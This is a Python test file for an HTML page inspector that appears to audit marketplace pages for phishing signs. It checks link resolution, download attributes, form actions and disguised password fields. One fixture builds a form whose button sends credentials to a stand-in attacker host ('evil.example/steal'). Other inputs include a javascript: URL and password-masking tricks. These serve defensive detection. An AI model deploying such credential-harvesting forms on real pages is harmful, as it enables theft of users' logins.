"""What a page consists of, read out of its markup in the inspector's process."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing

import pytest

from marketplace.checker.audits.facts import (
    MAX_BLOCKS,
    MAX_LINKS,
    MAX_TEXT,
    MAX_WORDS,
    PageFacts,
    PageForm,
    PageLink,
)
from marketplace.checker.inspector import Inspector

URL = "https://shop.example/tea/green?page=2"


@pytest.fixture(scope="module")
def inspector() -> Iterator[Inspector]:
    with closing(Inspector(seconds=10)) as one:
        yield one


def read_with(inspector: Inspector, source: str) -> PageFacts:
    facts = inspector.facts(source, URL)
    assert facts
    return facts


def test_text_titles_and_words(inspector: Inspector) -> None:
    facts = read_with(
        inspector,
        "<html lang=de-AT><title>Tea &amp;\n cups</title><h1>Green <b>tea</b></h1><p>Steep it <i>twice</i>.<p>Drink."
        "<script>var unseen</script><style>.unseen{}</style><template>unseen</template><noscript>unseen</noscript>",
    )
    assert (facts.title, facts.language, facts.headings) == ("Tea & cups", "de-AT", ("Green tea",))
    assert facts.blocks == ("Green tea", "Steep it twice.", "Drink.")
    assert "unseen" not in facts.text
    assert facts.words == 7


@pytest.mark.parametrize(
    ("text", "words"),
    [("", 0), ("Steep it twice", 3), ("お茶を二度淹れる", 5), ("ชงชาสองครั้ง", 7), ("차를 두 번 우린다", 4)],
)
def test_words_are_counted_in_scripts_without_spaces_too(inspector: Inspector, text: str, words: int) -> None:
    assert read_with(inspector, f"<p>{text}").words == words


@pytest.mark.parametrize(
    ("href", "url"),
    [
        ("/cups", "https://shop.example/cups"),
        ("cups#top", "https://shop.example/tea/cups"),
        ("//other.example/a b", "https://other.example/a%20b"),
        ("\\\\other.example\\x", "https://other.example/x"),
        (" HTTPS://OTHER.example/ ", "https://other.example/"),
        ("ht\ttps://other.example/", "https://other.example/"),
        ("javascript:alert(1)", None),
        ("mailto:a@shop.example", None),
        ("data:text/html,x", None),
        ("https://", None),
        ("/" + "x" * 3000, None),
    ],
)
def test_addresses_are_completed_as_browsers_do(inspector: Inspector, href: str, url: str | None) -> None:
    facts = read_with(inspector, f'<a href="{href}">Cups</a>')
    assert facts.links == ((PageLink(url, "Cups"),) if url else ())


@pytest.mark.parametrize(
    ("attribute", "downloads", "file"),
    [
        ("", False, ""),
        ("download", True, ""),
        ("download=' Setup.exe '", True, "Setup.exe"),
        (f"download={'x' * 3000}.exe", True, f"{'x' * (MAX_WORDS - 4)}.exe"),
    ],
    ids=["no", "nameless", "named", "named at length"],
)
def test_download_attribute_keeps_the_file_name(
    inspector: Inspector, attribute: str, downloads: bool, file: str
) -> None:
    (link,) = read_with(inspector, f"<a href=/get?id=3 {attribute}>Get it</a>").links
    assert (link.downloads, link.file) == (downloads, file)


def test_base_element_changes_relative_addresses(inspector: Inspector) -> None:
    facts = read_with(inspector, "<base href='//cdn.example/v1/'><img src=a.png alt=''><form></form><a href=b>B</a>")
    assert (facts.base, facts.images) == ("https://cdn.example/v1/", ("https://cdn.example/v1/a.png",))
    assert facts.links[0].url == "https://cdn.example/v1/b"
    assert facts.forms[0].actions == (URL,), "a form without action sends to the page itself"


def test_forms_list_all_their_actions(inspector: Inspector) -> None:
    facts = read_with(
        inspector,
        "<form id=f method=POST action=/in><input name=user><input type=hidden name=t>"
        "<button formaction=//evil.example/steal>Go</button></form><input form=f type=PASSWORD name=pass>",
    )
    actions = ("https://shop.example/in", "https://evil.example/steal")
    assert facts.forms == (PageForm(actions, "post", True, ("user", "pass")),)
    assert facts.passwords == 1


def test_scripts_styles_images_and_frames_are_listed(inspector: Inspector) -> None:
    facts = read_with(
        inspector,
        "<link rel='preload stylesheet' href=a.css><link rel=icon href=i.png><script src=a.js></script>"
        "<iframe src=/frame></iframe><embed src=/plug><object data=/thing></object>"
        "<img src=1.png><img src=1.png alt=''>"
        "<meta name=Generator content='Maker 3'><meta http-equiv=Refresh content='5; URL=/next'>",
    )
    assert facts.styles == ("https://shop.example/tea/a.css",)
    assert facts.scripts == ("https://shop.example/tea/a.js",)
    assert facts.frames == tuple(f"https://shop.example/{path}" for path in ("frame", "plug", "thing"))
    assert (facts.images, facts.pictures, facts.pictures_without_alt) == (("https://shop.example/tea/1.png",), 2, 1)
    assert facts.refresh == "https://shop.example/next"


def test_verification_tag_counts_in_the_head_only(inspector: Inspector) -> None:
    tag = '<meta name="prebuilt-verification" content="{}">'
    facts = read_with(inspector, f"<head>{tag.format('mine')}</head><body><p>A comment: {tag.format('a guest’s')}</p>")
    assert facts.verification == ("mine",)


@pytest.mark.parametrize(("text", "expected"), [("", True), ("word " * 40, False)])
def test_scripts_without_text_mark_a_page_as_made_by_scripts(inspector: Inspector, text: str, expected: bool) -> None:
    assert read_with(inspector, f"<script></script><p>{text}").made_by_scripts is expected


def test_all_lists_are_capped(inspector: Inspector) -> None:
    facts = read_with(inspector, "<p>word word</p><a href=/x>x</a>" * 20_000)
    assert (len(facts.links), len(facts.blocks), len(facts.text)) == (MAX_LINKS, MAX_BLOCKS, MAX_TEXT)
    assert facts.words == 60_000


@pytest.mark.parametrize("source", ["", "\0", "<", "<!doctype", "<frameset><frame src=/a></frameset>", "\ud800"])
def test_odd_markup_is_read(inspector: Inspector, source: str) -> None:
    assert inspector.facts(source, URL)


def test_too_intricate_markup_gives_none_and_the_next_page_is_read() -> None:
    with closing(Inspector(seconds=1)) as one:
        assert one.facts("<div>" * 400_000, URL) is None
        assert one.facts("<p>a", URL)


@pytest.mark.parametrize(
    ("fields", "asks_who"),
    [
        ("<input type=email>", True),
        ("<input name=identifier>", True),
        ("<input id=userName type=TEXT><input type=checkbox name=stay><input type=hidden name=csrf>", True),
        ("<input name=x autocomplete='section-1 username'>", True),
        ("<input type=tel>", True),
        ("<input name='E-mail address'>", True),
        ("<input name=address>", False),
        ("<input name=name>", False),
        ("<input name=q>", False),
        ("<input type=search name=name>", False),
        ("<input type=email><textarea></textarea>", False),
        ("<input type=email><input name=firstname>", False),
        ("<input type=email><input type=password>", False),
        ("<select name=user></select>", False),
        ("", False),
    ],
)
def test_single_identity_field_is_recognised(inspector: Inspector, fields: str, asks_who: bool) -> None:
    assert read_with(inspector, f"<form>{fields}</form>").asks_who is asks_who


def test_button_labels_are_read(inspector: Inspector) -> None:
    source = "<button> Go <b>on</b></button><div role=button>Next</div><input type=submit value=Send><button></button>"
    assert read_with(inspector, source).buttons == ("Go on", "Next", "Send")


@pytest.mark.parametrize(
    ("field", "is_password"),
    [
        ("<input type=PassWord name=x>", True),
        ("<input name=x autocomplete='section-1 current-password'>", True),
        ("<input type=text name=x autocomplete=new-password>", True),
        ("<input name=x style='-webkit-text-security: disc'>", True),
        ("<textarea name=x style='-WEBKIT-text-security:circle'></textarea>", True),
        ("<input name=user_pass>", True),
        ("<input name=user_pwd>", True),
        ("<input type=tel id=newPassword2>", True),
        ("<input name=x placeholder='Your password*'>", True),
        ("<input name=x aria-label=Passwort>", True),
        ("<input name=x style='-webkit-text-security: none'>", False),
        ("<input name=x autocomplete=one-time-code>", False),
        ("<input name=pass>", False),
        ("<input name=x placeholder='Pass 12'>", False),
        ("<input type=number name=passcode>", False),
        ("<input type=search name=password>", False),
        ("<input name=passengers>", False),
        ("<input name=day_pass>", False),
        ("<input name=compass>", False),
        ("<input type=email placeholder='Email, to reset your password'>", False),
        ("<input type=checkbox name=password>", False),
        ("<input type=hidden name=password>", False),
        ("<button name=password>Show</button>", False),
        ("<select name=pass></select>", False),
    ],
)
def test_disguised_password_fields_are_recognised(inspector: Inspector, field: str, is_password: bool) -> None:
    facts = read_with(inspector, f"<form>{field}</form>")
    assert (facts.forms[0].has_password, facts.passwords) == (is_password, int(is_password))
